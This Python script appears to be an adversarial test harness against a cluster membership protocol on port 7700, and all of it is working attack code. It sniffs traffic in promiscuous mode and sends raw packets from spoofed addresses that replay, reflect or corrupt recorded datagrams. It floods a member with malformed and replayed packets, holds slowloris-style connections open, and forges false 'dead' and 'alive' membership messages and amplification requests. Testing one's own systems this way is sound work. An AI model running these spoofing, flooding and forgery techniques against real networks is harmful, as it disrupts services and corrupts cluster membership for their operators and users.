#!/usr/bin/env python3
"""A stranger on the network of a cluster: records what passes, and sends what it likes from whatever address.

    attacker.py record FILE SECONDS
    attacker.py replay FILE MODE RATE [TARGET]     every recorded datagram once, changed as MODE says
    attacker.py storm FILE TARGET RATE SECONDS     garbage of all kinds at one member, as fast as RATE a second
    attacker.py streams TARGET COUNT SECONDS       COUNT connections that say nothing, or little and slowly
    attacker.py clear CLUSTER TARGET RATE SECONDS MEMBER...
                                                   what members without a key are attacked with, well formed and in clear: lies
                                                   about the MEMBERs, questions with long answers, orders, whole streams

Needs root and Linux: packets are read by AF_PACKET and written by SOCK_RAW on eth0, beside the members of port 7700. Each
command prints one line of JSON: how many packets it took from, or sent to the network, and what members sent to its own
address meanwhile. Answers are counted in bytes of UDP payload, as what it sends is.

Modes: same (as recorded), own (from this host's address), other (to another member), reflect (back to its sender), reorder,
truncate, flip (one bit), strange (from an address that nobody has).
"""

import fcntl
import json
import os
import random
import resource
import socket
import struct
import sys
import threading
import time

INTERFACE = "eth0"
PORT = 7700
HEADER = 16  # of a sealed datagram: hint, salt, counter
SOL_PACKET, PACKET_ADD_MEMBERSHIP, PACKET_MR_PROMISC = 263, 1, 1
ETH_P_IP = 0x0800
RECORD = struct.Struct("!d4sH4sHH")

random.seed(20261130)


def own_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        request = struct.pack("256s", INTERFACE.encode())
        return fcntl.ioctl(probe, 0x8915, request)[20:24]  # SIOCGIFADDR


def tap():
    """A socket that sees every frame on the cable."""
    packets = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    packets.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 25)
    packets.bind((INTERFACE, ETH_P_IP))
    index = socket.if_nametoindex(INTERFACE)
    packets.setsockopt(
        SOL_PACKET, PACKET_ADD_MEMBERSHIP, struct.pack("iHH8s", index, PACKET_MR_PROMISC, 0, b"")
    )
    packets.settimeout(0.2)
    return packets


def datagrams(packets, until):
    """UDP datagrams that arrive at the interface, until a time, in seconds, that may change."""
    while time.monotonic() < until():
        try:
            frame, address = packets.recvfrom(65536)
        except socket.timeout:
            continue
        if address[2] == socket.PACKET_OUTGOING or len(frame) < 42 or frame[23] != socket.IPPROTO_UDP:
            continue
        ip = frame[14:]
        start = (ip[0] & 15) * 4
        sport, dport, length = struct.unpack_from("!HHH", ip, start)
        yield ip[12:16], sport, ip[16:20], dport, ip[start + 8 : start + length]


class Answers(threading.Thread):
    """Counts what members send to this host."""

    def __init__(self):
        super().__init__(daemon=True)
        self.count = self.bytes = 0
        self.end = float("inf")
        self.packets = tap()
        self.me = own_address()

    def run(self):
        for _, sport, target, _, payload in datagrams(self.packets, lambda: self.end):
            if target == self.me and sport == PORT:
                self.count += 1
                self.bytes += len(payload)

    def stop(self):
        time.sleep(2)  # the last answers
        self.end = 0
        self.join()


class Forger:
    """Sends datagrams from any address."""

    def __init__(self):
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
        self.sent = self.bytes = 0

    @staticmethod
    def packet(source, sport, target, dport, payload):
        length = 20 + 8 + len(payload)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, length, 0, 0, 64, socket.IPPROTO_UDP, 0, source, target)
        return ip + struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload

    def send(self, packet):
        try:
            self.raw.sendto(packet, (socket.inet_ntoa(packet[16:20]), 0))
        except (BlockingIOError, OSError):
            return
        self.sent += 1
        self.bytes += len(packet) - 28


def paced(packets, rate):
    """The packets, no faster than so many a second."""
    began = time.monotonic()
    for number, packet in enumerate(packets):
        if number % 64 == 0:
            ahead = began + number / rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
        yield packet


def record(file, seconds):
    count = 0
    me = own_address()
    end = time.monotonic() + float(seconds)
    with open(file, "wb") as out:
        for source, sport, target, dport, payload in datagrams(tap(), lambda: end):
            if PORT in (sport, dport) and target[3] != 255 and source != me:
                out.write(RECORD.pack(time.time(), source, sport, target, dport, len(payload)) + payload)
                count += 1
    return {"recorded": count}


def recorded(file):
    with open(file, "rb") as stream:
        data = stream.read()
    at, found = 0, []
    while at < len(data):
        _, source, sport, target, dport, length = RECORD.unpack_from(data, at)
        at += RECORD.size
        found.append((source, sport, target, dport, data[at : at + length]))
        at += length
    return found


def flipped(payload):
    changed = bytearray(payload)
    changed[random.randrange(len(changed))] ^= 1 << random.randrange(8)
    return bytes(changed)


def changed(mode, one, members):
    source, sport, target, dport, payload = one
    if mode == "own":
        source = own_address()
    elif mode == "other":
        target = random.choice([member for member in members if member not in (source, target)])
    elif mode == "reflect":
        source, sport, target, dport = target, dport, source, sport
    elif mode == "truncate":
        payload = payload[: random.randrange(len(payload))]
    elif mode == "flip":
        payload = flipped(payload)
    elif mode == "strange":
        source = source[:3] + b"\xc8"
    elif mode not in ("same", "reorder"):
        sys.exit("unknown mode " + mode)
    return Forger.packet(source, sport, target, dport, payload)


def result(forger, answers, began):
    answers.stop()
    return {
        "sent": forger.sent,
        "sentBytes": forger.bytes,
        "seconds": round(time.monotonic() - began - 2, 2),
        "answers": answers.count,
        "answerBytes": answers.bytes,
    }


def replay(file, mode, rate, target=None):
    all_of_them = recorded(file)
    members = sorted({one[0] for one in all_of_them if one[1] == PORT})
    chosen = [one for one in all_of_them if one[4] and (target is None or one[2] == socket.inet_aton(target))]
    if mode == "reorder":
        random.shuffle(chosen)
    packets = [changed(mode, one, members) for one in chosen]
    answers, forger, began = Answers(), Forger(), time.monotonic()
    answers.start()
    for packet in paced(packets, float(rate)):
        forger.send(packet)
    return result(forger, answers, began)


def storm(file, target, rate, seconds):
    """Half from this host's address, half from those of members and of nobody."""
    all_of_them = [one for one in recorded(file) if len(one[4]) >= HEADER]
    members = sorted({one[0] for one in all_of_them if one[1] == PORT})
    there = socket.inet_aton(target)
    sources = [own_address()] * len(members) + [m for m in members if m != there] + [there[:3] + b"\xc8"]
    packets = []
    delivered = [one for one in all_of_them if one[2] == there]
    for number in range(8192):
        true = random.choice(all_of_them)[4]
        kind = number % 8
        if kind == 0:
            payload = os.urandom(random.randrange(1, 1400))
        elif kind == 1:
            payload = flipped(true)
        elif kind == 2:
            payload = true[:HEADER] + os.urandom(random.randrange(1, 300))  # a known salt, and a counter of its
        elif kind == 3:
            payload = true[:10] + os.urandom(6) + true[HEADER:]  # a known salt, another counter
        elif kind == 4:
            payload = true[:1] + os.urandom(len(true) - 1)  # an unknown salt under the right hint
        elif kind == 5:
            payload = true[: random.randrange(1, len(true))]
        else:
            payload = random.choice(delivered)[4]  # a replay
        packets.append(Forger.packet(random.choice(sources), PORT, there, PORT, payload))
    answers, forger, began = Answers(), Forger(), time.monotonic()
    answers.start()
    end = began + float(seconds)
    count = int(float(rate) * float(seconds))
    for packet in paced((packets[i % len(packets)] for i in range(count)), float(rate)):
        if forger.sent % 256 == 0 and time.monotonic() > end:
            break
        forger.send(packet)
    return result(forger, answers, began)


def streams(target, count, seconds):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = int(count) + 100
    resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, max(hard, wanted)))
    opened = refused = 0
    live = []
    end = time.monotonic() + float(seconds)
    for number in range(int(count)):
        stream = socket.socket()
        stream.setblocking(False)
        try:
            stream.connect((target, PORT))
        except BlockingIOError:
            pass
        except OSError:
            refused += 1
            continue
        live.append(stream)
        opened += 1
        if number % 50 == 0:
            time.sleep(0.02)
    said = received = 0
    while time.monotonic() < end:
        for number, stream in enumerate(live):
            if number % 3:  # the others say nothing
                try:
                    # A byte of the length of a frame, then its flag, and so on: never a whole frame.
                    said += stream.send(b"\x00\x00\x10\x00\x02\x01"[said % 6 : said % 6 + 1])
                except (BlockingIOError, OSError):
                    pass
            try:
                received += len(stream.recv(4096))
            except (BlockingIOError, OSError):
                pass
        time.sleep(0.5)
    for stream in live:
        stream.close()
    return {"opened": opened, "refused": refused, "saidBytes": said, "receivedBytes": received}


def crc32c(data):
    crc = 0xFFFFFFFF
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = crc >> 1 ^ (0x82F63B78 if crc & 1 else 0)
    return crc ^ 0xFFFFFFFF


def varint(number):
    out = b""
    while number > 127:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])


def message(kind, *fields):
    whole = b"".join(fields)
    return bytes([kind]) + varint(len(whole)) + whole


def name(text):
    return bytes([len(text)]) + text.encode()


def alive(member, generation, incarnation, address):
    return message(
        0x10, name(member), struct.pack("!Q", generation), varint(incarnation), b"\x04" + varint(1000), b"\x01", address
    )


def lies(members, me, there):
    """Bodies of datagrams."""
    now = int(time.time() * 1000) << 16
    latest = 1 << 63
    generations = (now, now + (1 << 36), 2**64 - 1, 2**64 - 2)
    here, victim = me + struct.pack("!H", PORT), there[:3] + b"\xc8" + struct.pack("!H", PORT)
    for member in members:
        for generation in generations:
            for incarnation in (1, latest - 1):
                for status in (1, 2, 3):  # suspect, dead, left
                    verdict = name(member), struct.pack("!Q", generation), varint(incarnation)
                    yield message(0x11, *verdict, bytes([status]), b"\x01", b"\x00")
            yield alive(member, generation, 1, here)
            delta = varint(0), varint(latest - 1), b"\x01", b"\x00"
            yield message(0x12, name(member), struct.pack("!Q", generation), *delta)
    for number in range(30):
        yield alive("fake%d" % number, now, 1, victim)
    yield b"".join(message(0x01, struct.pack("!HIQ", i, 0, 0)) for i in range(70))
    ask = struct.pack("!HI", 1, 0), b"\x04" + victim, varint(2**31 - 1)
    yield b"".join(message(0x04, *ask) for _ in range(50))
    yield b"".join(message(0x23, struct.pack("!H", i), b"\x00") for i in range(60))
    yield b"".join(message(0x07, struct.pack("!H", i), name("fake0"), struct.pack("!Q", now)) for i in range(60))


def sealed_in_clear(cluster, body):
    return struct.pack("!I", crc32c(cluster.encode() + body)) + body


def frame(flag, cluster, body):
    sealed = sealed_in_clear("" if flag == 0 else cluster, body)
    return struct.pack("!IB", len(sealed) + 1, flag) + sealed


def speak(cluster, target, member):
    """A stream for each purpose, which says hello as a member and then tells of 1,900 others."""
    now = int(time.time() * 1000) << 16
    live = []
    for purpose in range(8):
        hello = message(
            0x40, b"\x01\x01", varint(len(cluster)) + cluster.encode(), name(member), struct.pack("!Q", now), bytes([purpose])
        )
        others = b"".join(alive("other%d" % i, now, 1, socket.inet_aton(target) + b"\x1e\x14") for i in range(200))
        stream = socket.create_connection((target, PORT), timeout=5)
        try:
            stream.sendall(frame(0, cluster, hello) + 9 * frame(1, cluster, others))
        except OSError:
            pass
        live.append(stream)
    return live


def clear(cluster, target, rate, seconds, *members):
    there = socket.inet_aton(target)
    sources = [own_address(), there[:3] + b"\xc8", there[:3] + b"\x02"]
    bodies = [sealed_in_clear(cluster, body) for body in lies(members, own_address(), there)]
    answers, forger, began = Answers(), Forger(), time.monotonic()
    answers.start()
    live = speak(cluster, target, members[0])
    packets = [Forger.packet(source, PORT, there, PORT, body) for body in bodies for source in sources]
    for packet in paced((packets[i % len(packets)] for i in range(int(float(rate) * float(seconds)))), float(rate)):
        forger.send(packet)
    for stream in live:
        stream.close()
    return result(forger, answers, began)


COMMANDS = {"clear": clear, "record": record, "replay": replay, "storm": storm, "streams": streams}

if __name__ == "__main__":
    if len(sys.argv) < 3 or sys.argv[1] not in COMMANDS:
        sys.exit(__doc__)
    print(json.dumps(COMMANDS[sys.argv[1]](*sys.argv[2:])), flush=True)
